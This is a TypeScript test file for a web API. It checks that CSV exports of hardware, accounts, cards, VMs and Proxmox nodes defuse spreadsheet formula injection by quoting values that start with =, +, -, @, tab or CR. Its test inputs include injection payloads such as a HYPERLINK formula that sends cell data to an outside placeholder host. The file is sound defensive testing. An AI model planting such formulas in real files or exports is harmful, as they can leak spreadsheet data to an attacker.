import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, parseCsv } from '../src/http/resource/csv.js';
import { createUser, randomName, type TestUser } from './helpers/factories.js';
import type { TestApp } from './helpers/test-app.js';
import { type ApiCall, twoUsers } from './helpers/two-users.js';

/**
 * Formula injection (OWASP): no cell of any CSV export, and no element of a list cell, starts
 * with = + - @ tab or carriage return; each such value comes out with a leading '. The JSON
 * export keeps the values as they are.
 */

let t: TestApp;
let admin: TestUser;
let call: ApiCall;

beforeAll(async () => {
  ({ t, admin, call } = await twoUsers());
});
afterAll(async () => t?.close());

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
const FORMULA_START = /^[=+\-@\t\r]/;
/** What a defused text value looks like in the CSV. */
const defused = (text: string) => (FORMULA_START.test(text) ? `'${text}` : text);

/** The export as records of named cells, read with the API's own CSV parser. */
async function exportCsv(
  user: TestUser,
  resource: string,
  query = '',
): Promise<Array<Record<string, string>>> {
  const res = await call(user, 'GET', `/${resource}/export?format=csv${query}`);
  expect(res.statusCode, res.body).toBe(200);
  const [header, ...rows] = parseCsv(res.body).map((r) => r.fields);
  return rows.map((fields) =>
    Object.fromEntries((header ?? []).map((h, i) => [h, fields[i] ?? ''])),
  );
}

/** Every cell, and every ;-separated element of every cell, is safe to open in a spreadsheet. */
function expectNoFormula(rows: Array<Record<string, string>>): void {
  const unsafe: string[] = [];
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row)) {
      if (FORMULA_START.test(cell)) unsafe.push(`${column}: ${JSON.stringify(cell)}`);
      for (const element of cell.split(';')) {
        if (FORMULA_START.test(element))
          unsafe.push(`${column} element: ${JSON.stringify(element)}`);
      }
    }
  }
  expect(unsafe).toEqual([]);
}

/** Tags as a list cell: the first and the last element dangerous, a plain one between. */
const tagsFor = (c: string, n: number) => [
  `${c}HYPERLINK("http://x/?"&A${n},"x")`,
  `plain-${n}`,
  `${c}SUM(A1)`,
];

describe('CSV exports defuse formulas', () => {
  it('hardware: a text field, a note, a tag and a list element, for each dangerous character', async () => {
    const user = await createUser(t.app, admin);
    const created: Array<{ id: string; pcname: string; notes: string; tags: string[] }> = [];
    for (const [n, c] of DANGEROUS.entries()) {
      const res = await call(user, 'POST', '/hardware', {
        // Text fields are trimmed: the tab and CR survive inside, the character after them leads.
        pcname: `${c}pc-${n}`,
        notes: `${c}note ${n}`,
        tags: tagsFor(c, n),
      });
      expect(res.statusCode, res.body).toBe(201);
      created.push(res.json());
    }
    const rows = await exportCsv(user, 'hardware');
    expect(rows).toHaveLength(DANGEROUS.length);
    expectNoFormula(rows);
    for (const stored of created) {
      const row = rows.find((r) => r.id === stored.id);
      expect(row?.pcname).toBe(defused(stored.pcname));
      expect(row?.notes).toBe(defused(stored.notes));
      expect(row?.tags).toBe(stored.tags.map(defused).join(';'));
    }
    // The attack of the issue, exactly: the tag comes out as text.
    expect(rows.find((r) => r.id === created[0]?.id)?.tags).toBe(
      `'=HYPERLINK("http://x/?"&A0,"x");plain-0;'=SUM(A1)`,
    );
    // JSON keeps the values as stored.
    const json = await call(user, 'GET', '/hardware/export?format=json');
    expect(JSON.parse(json.body).map((h: { tags: string[] }) => h.tags)).toEqual(
      expect.arrayContaining(created.map((h) => h.tags)),
    );
  });

  it('accounts: username, note, tags, and with secrets an object cell and secret values', async () => {
    const user = await createUser(t.app, admin);
    const ids: string[] = [];
    for (const [n, c] of DANGEROUS.entries()) {
      const res = await call(user, 'POST', '/accounts', {
        username: `${c === '\t' || c === '\r' ? '=' : c}user${n}`,
        notes: `${c}note ${n}`,
        tags: tagsFor(c, n),
        password: `${c}password ${n}`,
        steam_guard: { device_id: `${c}android:${n}`, nested: [`${c}x`] },
      });
      expect(res.statusCode, res.body).toBe(201);
      ids.push(res.json().id);
    }
    const rows = await exportCsv(user, 'accounts');
    expect(rows).toHaveLength(DANGEROUS.length);
    expectNoFormula(rows);
    const withSecrets = await exportCsv(user, 'accounts', '&include_secrets=true');
    expectNoFormula(withSecrets);
    const first = withSecrets.find((r) => r.id === ids[0]);
    expect(first?.password).toBe("'=password 0");
    // An object is its JSON (which starts with "{"), its values as they are.
    expect(JSON.parse(first?.steam_guard ?? '')).toEqual({
      device_id: '=android:0',
      nested: ['=x'],
    });
  });

  it('cards, VMs and Proxmox nodes: every text and list column', async () => {
    const user = await createUser(t.app, admin);
    for (const [n, c] of DANGEROUS.entries()) {
      const card = await call(user, 'POST', '/cards', {
        code1: randomName('code'),
        tags: tagsFor(c, n),
      });
      expect(card.statusCode, card.body).toBe(201);
      const failed = await call(user, 'POST', `/cards/${card.json().id}/fail`, {
        reason: `${c}reason ${n}`,
      });
      expect(failed.statusCode, failed.body).toBe(200);
      const vm = await call(user, 'POST', '/vms', {
        vmid: 100 + n,
        name: `${c}vm-${n}`,
        tags: tagsFor(c, n),
      });
      expect(vm.statusCode, vm.body).toBe(201);
    }
    // Node names refuse control characters (they go into the agent's configuration).
    for (const [n, c] of ['=', '+', '-', '@'].entries()) {
      const node = await call(user, 'POST', '/proxmox-nodes', {
        name: `${c}node-${n}`,
        hostname: `${c}host-${n}`,
        cluster: `${c}cluster`,
        tags: tagsFor(c, n),
      });
      expect(node.statusCode, node.body).toBe(201);
    }
    const cards = await exportCsv(user, 'cards');
    const vms = await exportCsv(user, 'vms');
    const nodes = await exportCsv(user, 'proxmox-nodes');
    expect([cards.length, vms.length, nodes.length]).toEqual([6, 6, 4]);
    for (const rows of [cards, vms, nodes]) expectNoFormula(rows);
    expect(cards.map((r) => r.failure_reason)).toContain("'@reason 3");
    expect(vms.map((r) => r.name)).toContain("'+vm-1");
    expect(nodes.map((r) => r.cluster)).toContain("'-cluster");
    expect(nodes.map((r) => r.tags)).toContain(
      `'@HYPERLINK("http://x/?"&A3,"x");plain-3;'@SUM(A1)`,
    );
  });

  it('a list cell is defused element by element and as a whole; numbers stay numbers', () => {
    expect(csvCell(['=a', 'b', '+c'])).toBe(`"'=a;b;'+c"`);
    // Elements that are not text (a negative number, an object) are judged as the whole cell.
    expect(csvCell([-5, 'x'])).toBe(`"'-5;x"`);
    expect(csvCell([{ k: '=v' }])).toBe(`"{""k"":""=v""}"`);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell('\tx')).toBe("'\tx");
  });
});
